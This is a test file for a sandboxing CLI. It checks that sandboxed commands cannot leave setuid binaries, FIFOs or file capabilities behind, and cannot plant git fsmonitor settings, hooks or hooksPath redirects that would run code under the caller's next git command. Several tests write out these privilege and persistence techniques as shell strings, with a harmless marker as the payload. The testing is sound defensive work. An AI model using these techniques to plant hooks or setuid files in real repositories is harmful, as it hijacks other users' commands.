import { spawn, spawnSync } from 'node:child_process'
import { chownSync, existsSync, promises as fs, readFileSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { request } from 'node:http'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js'
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
import { runWithEffects } from '../../src/effects/runWithEffects.js'
import { type Branch, CorruptDataError, MachineError, PageScriptError, UsageError, Workspace, bestOfN, evalInMachine, qemuBackend } from '../../src/index.js'
import { CdpSession } from '../../src/machine/browser/cdpSession.js'
import { processId } from '../../src/sandbox/processId.js'
import { startService } from '../../src/service/httpService.js'
import { createMcpServer } from '../../src/service/mcpServer.js'
import { CLI, type CliResult, LIB, fp, fpInProcess, fpJsonInProcess, runCli } from '../helpers/cli.js'
import { useCountingServer } from '../helpers/countingServer.js'
import { PLANT, fpAs, fpAsNobody, giveToNobody, plainPlanted, planted } from '../helpers/privilegedModes.js'
import { makeWorkspace, tempDir } from '../helpers/tmp.js'
import { underTerminal } from '../helpers/underTerminal.js'
import { pollFor, until } from '../helpers/until.js'

describe('nothing privileged comes out of sandboxed work', () => {
  const LONG_NAME = 'x'.repeat(250)
  const root = process.getuid?.() === 0
  const plain = plainPlanted()

  /** A workspace with its store, as the CLI makes one. */
  const workspace = async () => {
    const dir = await makeWorkspace({ 'a.txt': 'a\n' })
    expect((await fpInProcess(dir, 'init')).code).toBe(0)
    return dir
  }

  it('forkpoint run: no setuid, setgid or sticky bit, no FIFO, no foreign owner is left in the workspace', async () => {
    const dir = await workspace()
    const r = await fp(dir, 'run', '--', 'sh', '-c', PLANT)
    expect(r.code).toBe(0)
    expect(await planted(dir)).toEqual(plain)
    expect(r.stderr).toMatch(/cleared the setuid, setgid or sticky bit of t/)
    expect(r.stderr).toMatch(/removed f, a FIFO or device node/)
  })

  it('forkpoint run and run --branch: a setuid file or FIFO under a name that is not UTF-8 is made plain too', async () => {
    const dir = await workspace()
    const name = (text: string) => Buffer.concat([Buffer.from(text), Buffer.of(0xff)])
    // `id\xff` made setuid, and a FIFO and a setuid file in the directory `d\xff`
    const plant = `cp /usr/bin/id "$(printf 'id\\377')"; chmod 4755 "$(printf 'id\\377')"; mkdir "$(printf 'd\\377')"; cd "$(printf 'd\\377')"; cp /usr/bin/id s; chmod 4755 s; mkfifo f`
    const plainAt = async (at: string) => {
      const id = await fs.lstat(Buffer.concat([Buffer.from(`${at}/`), name('id')]))
      const inDir = Buffer.concat([Buffer.from(`${at}/`), name('d'), Buffer.from('/')])
      const s = await fs.lstat(Buffer.concat([inDir, Buffer.from('s')]))
      const f = await fs.lstat(Buffer.concat([inDir, Buffer.from('f')])).catch(() => null)
      return { id: id.mode & 0o7000, s: s.mode & 0o7000, f }
    }
    expect((await fp(dir, 'run', '--', 'sh', '-c', plant)).code).toBe(0)
    expect(await plainAt(dir)).toEqual({ id: 0, s: 0, f: null })
    const made = await fpJsonInProcess<{ path: string }>(dir, 'branch', 'bytes')
    expect((await fp(dir, 'run', '--branch', 'bytes', '--', 'sh', '-c', `rm -r "$(printf 'd\\377')" "$(printf 'id\\377')"; ${plant}`)).code).toBe(0)
    expect(await plainAt(made.json.path)).toEqual({ id: 0, s: 0, f: null })
    expect((await fpInProcess(dir, 'commit', 'bytes')).code).toBe(0)
    expect(await plainAt(dir)).toEqual({ id: 0, s: 0, f: null })
  })

  it.runIf(root)("forkpoint run and run --branch as nobody: nobody's sandbox leaves no setuid file or FIFO either", async () => {
    const dir = await makeWorkspace({ 'a.txt': 'a\n' })
    giveToNobody(dir)
    expect((await fpAsNobody(dir, 'init')).code).toBe(0)
    const r = await fpAsNobody(dir, 'run', '--', 'sh', '-c', PLANT)
    expect([r.code, r.stderr]).toEqual([0, expect.stringMatching(/cleared the setuid/)])
    expect(await planted(dir)).toEqual(plainPlanted(65534))
    await fs.rm(join(dir, 's'))
    expect((await fpAsNobody(dir, 'branch', 'attempt')).code).toBe(0)
    expect((await fpAsNobody(dir, 'run', '--branch', 'attempt', '--', 'sh', '-c', 'cp /usr/bin/id s; chmod 6755 s; true')).code).toBe(0)
    const { branches } = JSON.parse((await fpAsNobody(dir, 'branch', '--list', '--json')).stdout) as { branches: Array<{ path: string }> }
    expect((await planted(branches[0]!.path)).s).toEqual(plainPlanted(65534).s)
    expect((await fpAsNobody(dir, 'commit', 'attempt')).code).toBe(0)
    expect((await planted(dir)).s).toEqual(plainPlanted(65534).s)
  })

  it.runIf(root)('as nobody: a directory the command left listable but not searchable (600) still has what it holds made plain', async () => {
    const dir = await makeWorkspace({ 'a.txt': 'a\n' })
    giveToNobody(dir)
    expect((await fpAsNobody(dir, 'init')).code).toBe(0)
    const r = await fpAsNobody(dir, 'run', '--', 'sh', '-c', `mkdir shut && cd shut && ${PLANT} && cd .. && chmod 600 shut`)
    expect([r.code, r.stderr]).toEqual([0, expect.stringMatching(/made shut readable by its owner/)])
    expect(await planted(join(dir, 'shut'))).toEqual(plainPlanted(65534))
    expect((await fpAsNobody(dir, 'snapshot')).code).toBe(0)
  })

  it('forkpoint run and run --branch: no file capability comes out (security.capability cannot be set)', async () => {
    const dir = await workspace()
    // cap_setuid=ep as a v2 xattr, which the kernel stores naming the namespace's root: with root's identity map, the host's
    const setcap = `cp /usr/bin/id capped && python3 -c "import os, struct; os.setxattr('capped', 'security.capability', struct.pack('<5I', 0x02000001, 1 << 7, 0, 0, 0))"`
    const xattrs = (file: string) => spawnSync('python3', ['-c', 'import os, sys; print(os.listxattr(sys.argv[1]))', file], { encoding: 'utf8' }).stdout.trim()
    const plainRun = await fp(dir, 'run', '--', 'sh', '-c', setcap)
    expect([plainRun.code, plainRun.stderr]).toEqual([1, expect.stringMatching(/Operation not permitted/)])
    expect(xattrs(join(dir, 'capped'))).toBe('[]')
    const made = await fpJsonInProcess<{ path: string }>(dir, 'branch', 'caps')
    const inBranch = await fp(dir, 'run', '--branch', 'caps', '--', 'sh', '-c', `rm capped; ${setcap}`)
    expect([inBranch.code, inBranch.stderr]).toEqual([1, expect.stringMatching(/Operation not permitted/)])
    expect(xattrs(join(made.json.path, 'capped'))).toBe('[]')
  })

  for (const user of root ? (['root', 'nobody'] as const) : (['root'] as const)) {
    it(`as ${user}: what a run makes beyond an image's reach goes, a run does not start beside one, a commit refuses one`, async () => {
      const dir = await makeWorkspace({ 'a.txt': 'a\n' })
      if (user === 'nobody') giveToNobody(dir)
      expect((await fpAs(user, dir, 'init')).code).toBe(0)
      // 20 directories of 250 bytes: 5,020 bytes, out of reach of any one path; and 300 directories deep
      const long = `i=0; while [ $i -lt 20 ]; do mkdir -p ${LONG_NAME} && cd -P ${LONG_NAME} || exit 1; i=$((i+1)); done`
      const deep = `i=0; while [ $i -lt 300 ]; do mkdir -p d && cd -P d || exit 1; i=$((i+1)); done`
      const privileged = (at: string) => spawnSync('find', [at, '(', '-perm', '/6000', '-o', '-type', 'p', ')', '-print'], { encoding: 'utf8' }).stdout
      const plant = `(${long}; ${PLANT}); (${deep}; ${PLANT})`
      const byHand = (script: string, cwd: string) =>
        user === 'nobody' ? spawnSync('setpriv', ['--reuid=nobody', '--regid=nogroup', '--clear-groups', 'sh', '-c', script], { cwd }) : spawnSync('sh', ['-c', script], { cwd })
      try {
        const ran = await fpAs(user, dir, 'run', '--', 'sh', '-c', plant)
        expect([ran.code, ran.stderr]).toEqual([0, expect.stringMatching(/removed x{200}\.\.\., which the command made more than 256 directories deep or at a path of 4096 bytes/)])
        expect(ran.stderr).toMatch(/removed d\/d\/d.*which the command made/)
        expect(privileged(dir)).toBe('')
        expect(existsSync(join(dir, LONG_NAME))).toBe(true) // cut where it leaves reach

        // made outside any sandbox: a run does not start beside it, a snapshot refuses it
        byHand(long, dir)
        const refused = await fpAs(user, dir, 'run', '--', 'true')
        expect([refused.code, refused.stderr]).toEqual([5, expect.stringMatching(/a sandboxed run does not start beside x{200}/)])
        expect((await fpAs(user, dir, 'snapshot')).code).toBe(5)
        spawnSync('rm', ['-rf', join(dir, LONG_NAME), join(dir, 'd')])

        const made = await fpAs(user, dir, 'branch', 'deep', '--json')
        expect(made.code, made.stderr).toBe(0)
        const branch = (JSON.parse(made.stdout) as { path: string }).path
        const inBranch = await fpAs(user, dir, 'run', '--branch', 'deep', '--', 'sh', '-c', plant)
        expect([inBranch.code, inBranch.stderr]).toEqual([0, expect.stringMatching(/removed x{200}/)])
        expect(privileged(branch)).toBe('')
        // written into the branch by other means, it is refused at commit, and the branch still goes
        byHand(long, branch)
        const commit = await fpAs(user, dir, 'commit', 'deep')
        expect([commit.code, commit.stderr]).toEqual([5, expect.stringMatching(/cannot commit x{200}.*: its path under .* is 4096 bytes or more/)])
        expect(existsSync(join(dir, LONG_NAME))).toBe(false)
        expect((await fpAs(user, dir, 'abort', 'deep')).code).toBe(0)
        expect(existsSync(branch)).toBe(false)
      } finally {
        spawnSync('rm', ['-rf', join(dir, LONG_NAME), join(dir, 'd')])
      }
    })
  }

  it('what a run makes beyond reach under a name that is not UTF-8 goes too, never by a program it left on PATH', async () => {
    const dir = await workspace()
    const marker = join(tempDir('tool-ran'), 'ran')
    // a parent `a\xffb`, 257 directories below it, what PLANT leaves at the bottom; and an `sh`, `rm`, `chmod` and
    // `find` of the command's in the workspace, which a PATH holding `.` would find first
    const tools = ['sh', 'rm', 'chmod', 'find'].map((tool) => `printf '#!/bin/sh\\ntouch ${marker}\\n' > ${tool}; chmod +x ${tool}`).join('; ')
    const plant = `${tools}; top=$(printf 'a\\377b'); mkdir "$top" && cd "$top" && i=0; while [ $i -lt 257 ]; do mkdir d && cd d || exit 1; i=$((i+1)); done; ${PLANT}`
    try {
      const ran = await runCli(['run', '--', 'sh', '-c', plant], { cwd: dir, env: { PATH: `.:${process.env['PATH']}` } })
      expect([ran.code, ran.stderr]).toEqual([0, expect.stringMatching(/removed "a\\xffb\/d\/d.*which the command made/)])
      expect(spawnSync('find', [dir, '(', '-perm', '/6000', '-o', '-type', 'p', ')', '-print'], { encoding: 'utf8' }).stdout).toBe('')
      expect(readdirSync(dir).filter((name) => name.startsWith('.forkpoint-removing'))).toEqual([])
      expect(existsSync(marker)).toBe(false)
      expect((await fp(dir, 'run', '--', 'true')).code).toBe(0)
    } finally {
      spawnSync('rm', ['-rf', dir])
    }
  })

  for (const user of root ? (['root', 'nobody'] as const) : (['root'] as const)) {
    it(`as ${user}: a commit holds back the git config, hooks and .git files sandboxed work wrote, listed; --trust-git applies them`, async () => {
      const marker = join(tempDir('git-ran'), 'ran')
      const dir = await makeWorkspace({ 'a.txt': 'a\n' })
      expect(spawnSync('git', ['init', '-q', dir]).status).toBe(0)
      const ownConfig = readFileSync(join(dir, '.git/config'), 'utf8')
      if (user === 'nobody') {
        giveToNobody(dir)
        chownSync(dirname(marker), 65534, 65534)
      }
      expect((await fpAs(user, dir, 'init')).code).toBe(0)
      // what an agent's command can leave for the caller's next git command, outside the sandbox
      const plant = [
        `git config core.fsmonitor "touch ${marker}"`,
        `printf '#!/bin/sh\\ntouch ${marker}\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout`,
        `mkdir sub && git -C sub init -q && git -C sub config core.fsmonitor "touch ${marker}"`,
        'echo gitdir: /elsewhere > sub2.git && mkdir sub2 && mv sub2.git sub2/.git',
        'echo work > work.txt',
        'echo ../elsewhere > .git/commondir',
      ]
      const inBranch = async (name: string, script: string) => {
        expect((await fpAs(user, dir, 'branch', name)).code).toBe(0)
        const ran = await fpAs(user, dir, 'run', '--branch', name, '--', 'sh', '-c', `git config --global --add safe.directory '*'; ${script}`)
        expect(ran.code, ran.stderr).toBe(0)
      }
      await inBranch('held', plant.join(' && '))
      const held = await fpAs(user, dir, 'commit', 'held', '--json')
      expect(held.code, held.stderr).toBe(0)
      expect(JSON.parse(held.stdout).heldBack).toEqual(['.git/commondir', '.git/config', '.git/hooks/post-checkout', 'sub/.git/config', 'sub/.git/hooks', 'sub2/.git'])
      expect(readFileSync(join(dir, 'work.txt'), 'utf8')).toBe('work\n')
      expect(readFileSync(join(dir, '.git/config'), 'utf8')).toBe(ownConfig)
      expect(['.git/commondir', '.git/hooks/post-checkout', 'sub/.git/config', 'sub2/.git'].map((p) => existsSync(join(dir, p)))).toEqual([false, false, false, false])
      for (const at of [dir, join(dir, 'sub')]) spawnSync('git', ['-c', 'safe.directory=*', 'status'], { cwd: at })
      expect(existsSync(marker)).toBe(false)

      await inBranch('trusted', plant.slice(0, 2).join(' && '))
      const trusted = await fpAs(user, dir, 'commit', 'trusted', '--trust-git')
      expect(trusted.code, trusted.stderr).toBe(0)
      expect(trusted.stdout).not.toContain('held back')
      expect(readFileSync(join(dir, '.git/config'), 'utf8')).toContain('fsmonitor')
      expect(existsSync(join(dir, '.git/hooks/post-checkout'))).toBe(true)
    })
  }

  for (const user of root ? (['root', 'nobody'] as const) : (['root'] as const)) {
    it(`as ${user}: a run in the workspace itself cannot change git's config or hooks, nor replace .git; what it makes there goes`, async () => {
      const marker = join(tempDir('git-ran'), 'ran')
      const dir = await makeWorkspace({ 'a.txt': 'a\n' })
      expect(spawnSync('git', ['init', '-q', dir]).status).toBe(0)
      const ownConfig = readFileSync(join(dir, '.git/config'), 'utf8')
      if (user === 'nobody') giveToNobody(dir)
      expect((await fpAs(user, dir, 'init')).code).toBe(0)
      const attempts = [
        `git config core.fsmonitor "touch ${marker}"`,
        `printf '#!/bin/sh\\ntouch ${marker}\\n' > .git/hooks/post-checkout`,
        'rm .git/hooks/pre-commit.sample',
        'mv .git .git-moved',
        'mv .git/hooks .git/hooks-moved',
        `mkdir -p .git/modules/s && echo '[core] fsmonitor = "touch ${marker}"' > .git/modules/s/config`,
        'echo ../elsewhere > .git/commondir',
      ]
      const script = [
        "git config --global --add safe.directory '*'",
        'git add a.txt && git -c user.email=a@b -c user.name=a commit -qm one && echo committed',
        ...attempts.map((a, i) => `(${a}) 2>/dev/null && echo "${i} done"`),
      ].join('; ')
      const ran = await fpAs(user, dir, 'run', '--', 'sh', '-c', script)
      expect(ran.code, ran.stderr).toBe(0)
      expect(ran.stdout.trim().split('\n')).toEqual(['committed', '5 done', '6 done'])
      expect(ran.stderr).toContain('removed .git/modules/s/config, which the command made')
      expect(ran.stderr).toContain('removed .git/commondir, which the command made')
      expect(readFileSync(join(dir, '.git/config'), 'utf8')).toBe(ownConfig)
      expect(['.git/hooks/post-checkout', '.git/modules/s/config', '.git/commondir', '.git-moved'].map((p) => existsSync(join(dir, p)))).toEqual([false, false, false, false])
      expect(existsSync(join(dir, '.git/hooks/pre-commit.sample'))).toBe(true)
      expect(spawnSync('git', ['-c', 'safe.directory=*', 'log', '--format=%s'], { cwd: dir, encoding: 'utf8' }).stdout).toBe('one\n')
      expect(existsSync(marker)).toBe(false)
    })
  }

  it('a run in the workspace that renames a nested repository away and puts a copy with its own config in its place: the copy loses it, the original stays', async () => {
    const marker = join(tempDir('git-ran'), 'ran')
    const dir = await workspace()
    expect(spawnSync('git', ['init', '-q', join(dir, 'sub')]).status).toBe(0)
    const config = readFileSync(join(dir, 'sub/.git/config'), 'utf8')
    const swap = `mv sub sub-old && mkdir sub && cp -r sub-old/.git sub/.git && printf '[core]\\n\\tfsmonitor = "touch ${marker}"\\n' > sub/.git/config`
    const ran = await fp(dir, 'run', '--', 'sh', '-c', swap)
    expect(ran.code, ran.stderr).toBe(0)
    expect(ran.stderr).toContain('removed sub/.git/config, which the command made')
    expect(existsSync(join(dir, 'sub/.git/config'))).toBe(false)
    expect(readFileSync(join(dir, 'sub-old/.git/config'), 'utf8')).toBe(config)
    spawnSync('git', ['-c', 'safe.directory=*', 'status'], { cwd: join(dir, 'sub') })
    expect(existsSync(marker)).toBe(false)
  })

  /**
   * A repository whose git configuration runs files of its work tree: `core.hooksPath`, an included config, a hook
   * linked to a tracked script, and a diff driver naming a script not there yet.
   */
  const repoRunningWorkTree = async (marker: string) => {
    const dir = await makeWorkspace({
      'a.txt': 'a\n',
      '.githooks/pre-commit': '#!/bin/sh\nexit 0\n',
      'scripts/hook.sh': '#!/bin/sh\nexit 0\n',
      'team.gitconfig': '[user]\n\tname = team\n',
    })
    expect(spawnSync('git', ['init', '-q', dir]).status).toBe(0)
    await fs.chmod(join(dir, '.githooks/pre-commit'), 0o755)
    await fs.chmod(join(dir, 'scripts/hook.sh'), 0o755)
    await fs.appendFile(join(dir, '.git/config'), '[core]\n\thooksPath = .githooks\n[include]\n\tpath = ../team.gitconfig\n[diff "x"]\n\ttextconv = tools/t.sh\n')
    symlinkSync('../../scripts/hook.sh', join(dir, '.git/hooks/post-checkout'))
    const evil = `#!/bin/sh\ntouch ${marker}\n`
    return { dir, evil, fsmonitor: `[core]\n\tfsmonitor = "touch ${marker}"\n` }
  }

  /** The caller's git commands that would run what the work tree holds: a commit (its hooks), status (fsmonitor), a checkout. */
  const callersGit = (dir: string) => {
    const git = (...args: string[]) => spawnSync('git', ['-c', 'safe.directory=*', '-c', 'user.email=a@b', '-c', 'user.name=a', ...args], { cwd: dir, encoding: 'utf8' })
    git('status')
    expect(git('commit', '-q', '--allow-empty', '-m', 'after').status).toBe(0)
    git('checkout', '-q', 'HEAD')
  }

  for (const user of root ? (['root', 'nobody'] as const) : (['root'] as const)) {
    it(`as ${user}: a run in the workspace itself cannot change what the workspace's git configuration runs from the work tree; what it makes there goes`, async () => {
      const marker = join(tempDir('git-ran'), 'ran')
      const { dir, evil, fsmonitor } = await repoRunningWorkTree(marker)
      const own = ['.githooks/pre-commit', 'scripts/hook.sh', 'team.gitconfig'].map((p) => readFileSync(join(dir, p), 'utf8'))
      if (user === 'nobody') giveToNobody(dir)
      expect((await fpAs(user, dir, 'init')).code).toBe(0)
      await fs.writeFile(join(dir, 'evil'), evil)
      const attempts = [
        'cat evil > .githooks/pre-commit',
        'cat evil > .githooks/post-commit',
        'cat evil > scripts/hook.sh',
        `printf '${fsmonitor.replaceAll('\n', '\\n').replaceAll('\t', '\\t')}' >> team.gitconfig`,
        'mv .githooks .githooks-old',
        'mkdir tools && cat evil > tools/t.sh && chmod +x tools/t.sh',
        'mv scripts scripts-old && mkdir elsewhere && cat evil > elsewhere/hook.sh && chmod +x elsewhere/hook.sh && ln -s elsewhere scripts',
        'echo work > work.txt',
      ]
      const ran = await fpAs(user, dir, 'run', '--', 'sh', '-c', attempts.map((a, i) => `(${a}) 2>/dev/null && echo "${i} done"`).join('; '))
      expect(ran.code, ran.stderr).toBe(0)
      expect(ran.stdout.trim().split('\n')).toEqual(['5 done', '6 done', '7 done'])
      expect(ran.stderr).toContain('removed tools/t.sh, which the command made')
      expect(ran.stderr).toContain('removed scripts, which the command made')
      expect(['.githooks/pre-commit', 'scripts-old/hook.sh', 'team.gitconfig'].map((p) => readFileSync(join(dir, p), 'utf8'))).toEqual(own)
      expect(['.githooks/post-commit', 'tools/t.sh', 'scripts', '.githooks-old'].map((p) => existsSync(join(dir, p)))).toEqual([false, false, false, false])
      expect(readFileSync(join(dir, 'work.txt'), 'utf8')).toBe('work\n')
      callersGit(dir)
      expect(existsSync(marker)).toBe(false)
    })
  }

  it('hooks reached through links, a hooks path named `..hooks` and a nested repository’s hooks path: a run cannot change them, a commit holds them back', async () => {
    const marker = join(tempDir('git-ran'), 'ran')
    const exit0 = '#!/bin/sh\nexit 0\n'
    const dir = await makeWorkspace({ 'a.txt': 'a\n', 'githooks/pre-commit': exit0, 'tools/pc.sh': exit0, '..hooks/pre-commit': exit0, 'sub/.githooks/pre-commit': exit0 })
    const git = (at: string, ...args: string[]) => spawnSync('git', ['-c', 'safe.directory=*', '-c', 'user.email=a@b', '-c', 'user.name=a', ...args], { cwd: at, encoding: 'utf8' })
    expect(git(dir, 'init', '-q').status).toBe(0)
    expect(git(join(dir, 'sub'), 'init', '-q').status).toBe(0)
    for (const hook of ['githooks/pre-commit', 'tools/pc.sh', '..hooks/pre-commit', 'sub/.githooks/pre-commit']) await fs.chmod(join(dir, hook), 0o755)
    // the top repository's .git/hooks is a link into the work tree, and its hooks path `..hooks` holds a link to a script
    await fs.rm(join(dir, '.git/hooks'), { recursive: true })
    symlinkSync('../githooks', join(dir, '.git/hooks'))
    symlinkSync('../tools/pc.sh', join(dir, '..hooks/post-commit'))
    git(dir, 'config', 'core.hooksPath', '..hooks')
    git(join(dir, 'sub'), 'config', 'core.hooksPath', '.githooks')
    expect((await fpInProcess(dir, 'init')).code).toBe(0)
    const targets = ['githooks/pre-commit', 'tools/pc.sh', '..hooks/pre-commit', 'sub/.githooks/pre-commit']
    const evil = `#!/bin/sh\ntouch ${marker}\n`
    const ran = await fp(
      dir,
      'run',
      '--',
      'sh',
      '-c',
      [...targets.map((t, i) => `(printf '${evil.replaceAll('\n', '\\n')}' > ${t}) 2>/dev/null && echo "${i} done"`), 'echo work > w'].join('; '),
    )
    expect([ran.code, ran.stdout]).toEqual([0, ''])
    expect(targets.map((t) => readFileSync(join(dir, t), 'utf8'))).toEqual(targets.map(() => exit0))

    const made = await fpJsonInProcess<{ path: string }>(dir, 'branch', 'hooks')
    for (const t of targets) await fs.writeFile(join(made.json.path, t), evil)
    const held = await fpJsonInProcess<{ heldBack: string[] }>(dir, 'commit', 'hooks', '--json')
    expect([held.code, held.json.heldBack]).toEqual([0, [...targets].sort()])
    expect(targets.map((t) => readFileSync(join(dir, t), 'utf8'))).toEqual(targets.map(() => exit0))
    for (const at of [dir, join(dir, 'sub')]) expect(git(at, 'commit', '-q', '--allow-empty', '-m', 'after').status).toBe(0)
    expect(existsSync(marker)).toBe(false)
  })

  it.runIf(root)('as nobody: a hook a run puts in a directory it then makes unreadable is seen and goes', async () => {
    const marker = join(tempDir('git-ran'), 'ran')
    const dir = await makeWorkspace({ 'a.txt': 'a\n', 'tools/keep': '' })
    expect(spawnSync('git', ['init', '-q', dir]).status).toBe(0)
    expect(spawnSync('git', ['-C', dir, 'config', 'core.hooksPath', 'tools/hooks']).status).toBe(0)
    giveToNobody(dir)
    expect((await fpAsNobody(dir, 'init')).code).toBe(0)
    const hide = `mkdir tools/hooks && printf '#!/bin/sh\\ntouch ${marker}\\n' > tools/hooks/pre-commit && chmod +x tools/hooks/pre-commit && chmod 311 tools`
    const ran = await fpAsNobody(dir, 'run', '--', 'sh', '-c', hide)
    expect(ran.code, ran.stderr).toBe(0)
    expect(ran.stderr).toContain('made tools readable by its owner')
    expect(ran.stderr).toContain('removed tools/hooks, which the command made')
    expect(existsSync(join(dir, 'tools/hooks'))).toBe(false)
    spawnSync('git', ['-c', 'safe.directory=*', '-c', 'user.email=a@b', '-c', 'user.name=a', 'commit', '-q', '--allow-empty', '-m', 'x'], { cwd: dir })
    expect(existsSync(marker)).toBe(false)
  })

  it("a repository a run makes gets the caller's global hooks path: what the run put there goes", async () => {
    const marker = join(tempDir('git-ran'), 'ran')
    const dir = await workspace()
    const global = join(tempDir('global'), 'gitconfig')
    writeFileSync(global, '[core]\n\thooksPath = .githooks\n')
    const make = `mkdir src && cd src && git init -q && mkdir .githooks && printf '#!/bin/sh\\ntouch ${marker}\\n' > .githooks/pre-commit && chmod +x .githooks/pre-commit`
    const ran = await runCli(['run', '--', 'sh', '-c', make], { cwd: dir, env: { GIT_CONFIG_GLOBAL: global } })
    expect(ran.code, ran.stderr).toBe(0)
    expect(ran.stderr).toContain('removed src/.githooks, which the command made')
    expect(existsSync(join(dir, 'src/.githooks'))).toBe(false)
    const env = { ...process.env, GIT_CONFIG_GLOBAL: global }
    spawnSync('git', ['-c', 'safe.directory=*', '-c', 'user.email=a@b', '-c', 'user.name=a', 'commit', '-q', '--allow-empty', '-m', 'x'], { cwd: join(dir, 'src'), env })
    expect(existsSync(marker)).toBe(false)
  })

  it("a run in a workspace whose .git is a gitdir: file into the work tree cannot change that repository's config or hooks", async () => {
    const marker = join(tempDir('git-ran'), 'ran')
    const dir = await workspace()
    await fs.mkdir(join(dir, '.repo'))
    expect(spawnSync('git', ['init', '-q', '--separate-git-dir', join(dir, '.repo/gitdir'), dir]).status).toBe(0)
    const config = readFileSync(join(dir, '.repo/gitdir/config'), 'utf8')
    const attempts = [`git config core.fsmonitor "touch ${marker}"`, `printf '#!/bin/sh\\ntouch ${marker}\\n' > .repo/gitdir/hooks/post-checkout`, 'echo work > w']
    const ran = await fp(dir, 'run', '--', 'sh', '-c', attempts.map((a, i) => `(${a}) 2>/dev/null && echo "${i} done"`).join('; '))
    expect([ran.code, ran.stdout.trim()]).toEqual([0, '2 done'])
    expect(readFileSync(join(dir, '.repo/gitdir/config'), 'utf8')).toBe(config)
    expect(existsSync(join(dir, '.repo/gitdir/hooks/post-checkout'))).toBe(false)
    spawnSync('git', ['-c', 'safe.directory=*', 'status'], { cwd: dir })
    expect(existsSync(marker)).toBe(false)
  })

  it('a commit holds back what the workspace’s git configuration runs from the work tree, and a link in place of a directory above it', async () => {
    const marker = join(tempDir('git-ran'), 'ran')
    const { dir, evil, fsmonitor } = await repoRunningWorkTree(marker)
    expect((await fpInProcess(dir, 'init')).code).toBe(0)
    const inBranch = async (name: string, write: (at: string) => Promise<void>) => {
      const made = await fpJsonInProcess<{ path: string }>(dir, 'branch', name)
      await write(made.json.path)
    }
    await inBranch('held', async (at) => {
      await fs.writeFile(join(at, '.githooks/pre-commit'), evil)
      await fs.writeFile(join(at, 'scripts/hook.sh'), evil)
      await fs.appendFile(join(at, 'team.gitconfig'), fsmonitor)
      await fs.mkdir(join(at, 'tools'))
      await fs.writeFile(join(at, 'tools/t.sh'), evil, { mode: 0o755 })
      await fs.writeFile(join(at, 'work.txt'), 'work\n')
    })
    const held = await fpJsonInProcess<{ heldBack: string[] }>(dir, 'commit', 'held', '--json')
    expect(held.code).toBe(0)
    expect(held.json.heldBack).toEqual(['.githooks/pre-commit', 'scripts/hook.sh', 'team.gitconfig', 'tools/t.sh'])
    expect(readFileSync(join(dir, 'work.txt'), 'utf8')).toBe('work\n')
    await inBranch('swapped', async (at) => {
      await fs.rm(join(at, 'scripts'), { recursive: true })
      await fs.mkdir(join(at, 'elsewhere'))
      await fs.writeFile(join(at, 'elsewhere/hook.sh'), evil, { mode: 0o755 })
      await fs.symlink('elsewhere', join(at, 'scripts'))
    })
    const swapped = await fpJsonInProcess<{ heldBack: string[] }>(dir, 'commit', 'swapped', '--json')
    expect([swapped.code, swapped.json.heldBack]).toEqual([0, ['scripts']])
    expect((await fs.lstat(join(dir, 'scripts'))).isDirectory()).toBe(true)
    callersGit(dir)
    expect(existsSync(marker)).toBe(false)

    await inBranch('trusted', (at) => fs.writeFile(join(at, '.githooks/pre-commit'), '#!/bin/sh\necho trusted\n'))
    expect((await fpInProcess(dir, 'commit', 'trusted', '--trust-git')).code).toBe(0)
    expect(readFileSync(join(dir, '.githooks/pre-commit'), 'utf8')).toContain('trusted')
  })

  it("an image of a fork's branch keeps the base's files that the workspace's git configuration runs", async () => {
    const { forkImage, initWorkspace, snapshotForkBranch, snapshotWorkspace, checkout } = await import('../../src/index.js')
    const { dir, evil } = await repoRunningWorkTree(join(tempDir('git-ran'), 'ran'))
    await initWorkspace({ dir })
    const image = await snapshotWorkspace({ dir, message: 'base' })
    const [child] = await forkImage({ dir, id: image.id, n: 1, materialize: true })
    const at = child!.branch!.path
    await fs.writeFile(join(at, '.githooks/pre-commit'), evil)
    await fs.writeFile(join(at, '.githooks/post-merge'), evil)
    await fs.writeFile(join(at, 'b.txt'), 'work\n')
    const snap = await snapshotForkBranch({ dir, branch: child!.branch!.name })
    const out = join(tempDir('fork-image'), 'out')
    await checkout({ dir, id: snap.id, into: out })
    expect(readFileSync(join(out, '.githooks/pre-commit'), 'utf8')).toBe('#!/bin/sh\nexit 0\n')
    expect(['.githooks/post-merge', 'b.txt'].map((p) => existsSync(join(out, p)))).toEqual([false, true])
  })

  it("an image of a fork's branch keeps the base's git config and hooks, whatever the branch's work wrote there", async () => {
    const { forkImage, initWorkspace, snapshotForkBranch, snapshotWorkspace, checkout } = await import('../../src/index.js')
    const dir = await makeWorkspace({ 'a.txt': 'a\n', '.git/config': '[core]\n', '.git/HEAD': 'ref: refs/heads/main\n' })
    await initWorkspace({ dir })
    const image = await snapshotWorkspace({ dir, message: 'base' })
    const [child] = await forkImage({ dir, id: image.id, n: 1, materialize: true })
    const at = child!.branch!.path
    await fs.writeFile(join(at, '.git/config'), '[core]\n\tfsmonitor = "touch /tmp/ran"\n')
    await fs.mkdir(join(at, '.git/hooks'))
    await fs.writeFile(join(at, '.git/hooks/post-checkout'), '#!/bin/sh\n', { mode: 0o755 })
    await fs.mkdir(join(at, 'sub/.git/hooks'), { recursive: true })
    await fs.writeFile(join(at, 'sub/.git/hooks/pre-commit'), '#!/bin/sh\n', { mode: 0o755 })
    await fs.writeFile(join(at, 'b.txt'), 'work\n')
    const snap = await snapshotForkBranch({ dir, branch: child!.branch!.name })
    const out = join(tempDir('fork-image'), 'out')
    await checkout({ dir, id: snap.id, into: out })
    expect(readFileSync(join(out, '.git/config'), 'utf8')).toBe('[core]\n')
    expect(['.git/hooks', 'sub/.git/hooks', 'b.txt'].map((p) => existsSync(join(out, p)))).toEqual([false, false, true])
  })

  it('run --branch, on the branch as every tool sees it, then commit: plain files; a host mount is nosuid,nodev', async () => {
    const dir = await workspace()
    const made = await fpJsonInProcess<{ path: string; view: string }>(dir, 'branch', 'attempt')
    expect([made.code, made.json.view]).toEqual([0, root ? 'host' : expect.any(String)])
    const r = await fp(dir, 'run', '--branch', 'attempt', '--', 'sh', '-c', PLANT)
    expect(r.code).toBe(0)
    if (made.json.view === 'host') {
      expect(await planted(made.json.path)).toEqual(plain)
      const options = readFileSync('/proc/self/mountinfo', 'utf8')
        .split('\n')
